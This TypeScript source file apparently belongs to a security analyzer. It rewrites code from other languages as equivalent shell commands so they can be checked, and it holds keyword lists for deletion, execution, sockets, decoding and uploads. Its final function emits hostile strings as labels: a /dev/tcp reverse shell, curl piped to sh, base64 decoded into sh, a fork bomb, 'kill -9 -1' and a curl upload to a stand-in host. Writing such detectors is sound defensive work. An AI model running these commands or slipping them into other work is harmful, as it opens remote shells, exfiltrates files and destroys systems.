/** What code of other languages runs, reads, writes and removes, written as shell commands. */
import { attackCommands } from './foreign-attacks.ts';
import { assignedAt, listAt, literalAt, literalsIn, quote, writeOut } from './foreign-text.ts';

/** What a function of a library does to the path that it is given. */
interface Effect {
  readonly names: string;
  /** @param path quoted for the shell */
  readonly command: (path: string) => string;
  /** Whether it also acts on paths that are listed elsewhere in the code, when it is given none itself. */
  readonly spreads?: boolean;
}

const effects: readonly Effect[] = [
  {
    names: [
      'rmtree rm_rf rm_r remove_dir remove_entry remove_entry_secure removeSync emptyDirSync remove_tree rimraf',
      'rmSync rmdirSync fs.rm promises.rm fsp.rm rmdir Deno.remove Deno.removeSync removedirs deleteDir',
      'deleteDirectory deleteRecursively File.rm_rf File.rm_rf! file_delete delete-directory dir_delete',
      'Remove-Item',
    ].join(' '),
    command: (path) => `rm -rf -- ${path}`,
    spreads: true,
  },
  {
    names: [
      'os.remove os.unlink unlink unlinkSync File.delete File.unlink file.remove delete-file FileUtils.rm',
      'FileUtils.rm_f fs.remove File.rm',
    ].join(' '),
    command: (path) => `rm -f -- ${path}`,
    spreads: true,
  },
  {
    names: [
      'writeFileSync writeFile createWriteStream file_put_contents File.write truncate truncateSync write_text',
      'write_bytes writeTextFile writeTextFileSync IO.write write-file',
    ].join(' '),
    command: (path) => `: > ${path}`,
    spreads: true,
  },
  { names: 'appendFileSync appendFile', command: (path) => `: >> ${path}` },
  {
    names: [
      'readFileSync readFile file_get_contents File.read IO.read read_text read_bytes readlines readTextFile',
      'readTextFileSync File.readlines IO.readlines slurp readfile createReadStream show_source highlight_file',
      'readLines read_file File.foreach',
    ].join(' '),
    command: (path) => (/^'?(?:https?|ftp):/.test(path) ? `curl ${path}` : `cat ${path}`),
    spreads: true,
  },
  { names: 'urlopen urlretrieve requests.get requests.post requests.put fetch', command: (url) => `curl ${url}` },
];

const callOf = (names: string): RegExp => {
  const escaped = names.split(' ').map((each) => each.replace(/[.!-]/g, '\\$&'));
  return new RegExp(`(?<![\\w-])(?:${escaped.join('|')})(?![\\w-])["']?\\s*[,(]?\\s*`, 'g');
};

const compiled = effects.map((each) => ({ ...each, call: callOf(each.names) }));

/** Functions that run a program or a text of the shell. */
const runs = callOf(
  [
    'system system2 execute popen popen2 popen3 call run check_output check_call Popen getoutput',
    'getstatusoutput execSync spawnSync spawn execFileSync execFile execl execle execlp execv execve execvp',
    'exec shell_exec passthru proc_open pcntl_exec capture2 capture2e capture3 cmd callCommand callProcess',
    'readProcess Sys.command Process.run ProcessBuilder shell-command shell-command-to-string call-process',
    'start-process start-process-shell-command Deno.Command create_subprocess_shell create_subprocess_exec',
    'pty.spawn sh shell command',
  ].join(' '),
);

/** The commands that a piece of code amounts to; most of it runs nothing. */
export function commandsOf(code: string): readonly string[] {
  const plain = writeOut(code);
  return [
    ...runTexts(plain),
    ...backquoted(code),
    ...pipedTexts(plain),
    ...fileCommands(plain),
    ...openCommands(plain),
    ...modeCommands(plain),
    ...wholeCommands(plain),
    ...attackCommands(plain),
  ];
}

function* runTexts(code: string): Generator<string> {
  for (const call of code.matchAll(runs)) {
    const at = call.index + call[0].length;
    const listed = listAt(code, at);
    const words = listed.length > 0 ? listed : assignedAt(code, at);
    const [first] = words;
    if (first === undefined) continue;
    const options = /execSync|Popen|spawn/.test(call[0]) && words.length === 2 && words[1] === 'utf8';
    yield words.length > 1 && !options && !/\s/.test(first) ? words.map(quote).join(' ') : first;
  }
}

/** Perl, Ruby, PHP and Julia run what stands in backquotes, `%x(…)` and `qx(…)`; zx and Bun what stands in `$` and backquotes. */
function* backquoted(code: string): Generator<string> {
  if (!/\bimport\b|\brequire\(|\bconst\b/.test(code))
    for (const found of code.matchAll(/`([^`$]+)`|(?:%x|\bqx)[({[|/!]([^)}\]|/!]+)/g)) yield found[1] ?? found[2] ?? '';
  for (const found of code.matchAll(/(?<!\w)\$`([^`$]+)`/g)) yield found[1] ?? '';
}

/** `"text" | getline` and `print | "text"` of awk, `"text".execute()` of Groovy, `"text".!` of Scala, `do shell script "text"`. */
function* pipedTexts(code: string): Generator<string> {
  const forms =
    /"((?:[^"\\]|\\.)*)"\s*(?:\|&?\s*getline|\.execute\b|\.!)|\|\s*"((?:[^"\\]|\\.)*)"|do shell script\s+"((?:[^"\\]|\\.)*)"/g;
  for (const found of code.matchAll(forms)) yield (found[1] ?? found[2] ?? found[3] ?? '').replace(/\\(["\\])/g, '$1');
}

function* fileCommands(code: string): Generator<string> {
  const listed = listedPaths(code);
  for (const { call, command, spreads } of compiled) {
    for (const found of code.matchAll(call)) {
      const at = found.index + found[0].length;
      const path = literalAt(code, at) ?? assignedAt(code, at)[0];
      if (path !== undefined && path !== '') yield command(quote(path));
      else if (spreads) yield* listed.map((each) => command(quote(each)));
    }
  }
  for (const found of code.matchAll(/(?<![\w.-])(?:rm|unlink)\s*\(\s*["']([^"']+)["'](.{0,30})/g))
    if (/recursive/i.test(found[2] ?? '')) yield `rm -rf -- ${quote(found[1] ?? '')}`;
    else yield `rm -f -- ${quote(found[1] ?? '')}`;
}

const lists =
  /(?<![\w-])(?:glob|iglob|Dir\.glob|Dir|readdirSync|readdir|listdir|scandir|walk|opendir|Dir\.children|Dir\.entries|Dir\.each_child|Path|list\.files|readDirSync|lfs\.dir)\s*[([]\s*/g;

/** The files that the code lists: patterns, and everything in the folders that it reads. */
function listedPaths(code: string): readonly string[] {
  const angled = [...code.matchAll(/<([~/.][^<>"'|&]*[*?][^<>]*)>/g)].map((each) => each[1] ?? '');
  const named = [...code.matchAll(lists)].flatMap((found) => {
    const path = literalAt(code, found.index + found[0].length);
    if (path === undefined) return [];
    return /[*?]/.test(path) ? path.replaceAll('**/', '') : `${path.replace(/\/$/, '')}/*`;
  });
  const walked = [...code.matchAll(/["'](~[^"']*)["']\)?\.(?:rglob|glob|iterdir|walk)\b/g)].map(
    (each) => `${each[1]}/*`,
  );
  return [...new Set([...angled, ...named, ...walked])];
}

function* openCommands(code: string): Generator<string> {
  for (const found of code.matchAll(/(?<![\w])open\s*\(?\s*/g)) {
    const rest = code.slice(found.index, found.index + 300);
    const writes = /,\s*(?:mode\s*=\s*)?["'](?:[rb]*[wax+]|\+?>)/.test(rest.split(')')[0] ?? '');
    const path = /,\s*["']([+<>]{1,3}\s*)?["']?\s*,\s*(["'][^"']+["'])/.exec(rest.split(')')[0] ?? '')?.[2];
    const literal = path === undefined ? literalAt(code, found.index + found[0].length) : literalsIn(path)[0];
    const paths = literal === undefined ? (writes ? listedPaths(code) : []) : [literal];
    yield* paths.map((each) => (writes ? `: > ${quote(each)}` : `cat ${quote(each)}`));
  }
}

/** `chmod(path, mode)`, and Perl's and Ruby's `chmod mode, path`. */
function* modeCommands(code: string): Generator<string> {
  for (const found of code.matchAll(/(?<!\w)chmod(?:Sync|_R)?\s*\(?\s*(.{1,200})/gs)) {
    const rest = found[1] ?? '';
    const mode = /(?:^|,\s*)["']?0?o?([0-7]{3,4})["']?(?=\s*[,);]|$)/.exec(rest)?.[1];
    const paths = literalsIn(rest).filter((each) => !/^0?o?[0-7]+$/.test(each));
    if (mode !== undefined)
      yield* (paths.length > 0 ? paths : listedPaths(code)).map((each) => `chmod ${mode} ${quote(each)}`);
  }
}

const shellsOut =
  /dup2|fdopen|\bsystem\b|\/bin\/(ba|z|da)?sh|pty\.spawn|cmd\.exe|exec\b|spawn|subprocess|fileno|popen|fsockopen|\|&/i;
const network =
  /socket|TCPSocket|fsockopen|net\.connect|require\(["'](?:node:)?net["']\)|net\.Socket|\/inet\/tcp\/|IO::Socket|createConnection|stream_socket_client/i;
const download =
  /urlopen|requests\.get|fetch\(|https?\.get|URI\.open|open-uri|LWP::|get\(["']http|file_get_contents\(["']http|curl_exec|Net::HTTP|http\.request|HTTP::Tiny|loadbuffer/i;
const evaluates =
  /\bexec\b|\beval\b|system|new Function|vm\.run|loadstring|\bassert\b|\bload\b|\bsource\(|import_module|marshal\.loads|pickle\.loads/;
const decoded =
  /b64decode|fromhex|unhexlify|from\([^)]*["'](base64|hex)["']|decode64|decode_base64|MIME::Base64|atob|base64_decode|rot13|gzinflate|pack\(["']H\*|zlib\.decompress|marshal\.loads/;
const uploads =
  /requests\.(?:post|put)|urlopen\([^)]*,|sendall|\.send\(|method\s*:\s*["'](?:POST|PUT)|smtplib|storbinary|Net::FTP|HTTP\.post|post_form/i;

/** What the code does as a whole. */
function* wholeCommands(code: string): Generator<string> {
  if (network.test(code) && shellsOut.test(code)) yield 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  if (/\/inet\/tcp\//.test(code) && /getline/.test(code)) yield 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  if (download.test(code) && evaluates.test(code)) yield 'curl -s http://192.0.2.1/x | sh';
  if (decoded.test(code) && evaluates.test(code)) yield 'base64 -d hidden | sh';
  if (/\bfork\b/.test(code) && /while|for\b|loop|\.times|1 while|forever/.test(code))
    yield 'bomb() { bomb | bomb & }; bomb';
  if (/kill\s*\(?\s*-1\s*,|kill\s+(?:-?9|['"]?KILL['"]?)\s*,\s*-1/.test(code)) yield 'kill -9 -1';
  if (/set[ug]id\s*\(\s*0\s*\)/.test(code) && shellsOut.test(code)) yield 'sudo sh';
  if (uploads.test(code) && !/localhost|127\.0\.0\.1/.test(code))
    for (const each of openCommands(code))
      if (each.startsWith('cat ')) yield `curl -T ${each.slice(4)} http://192.0.2.1/`;
}
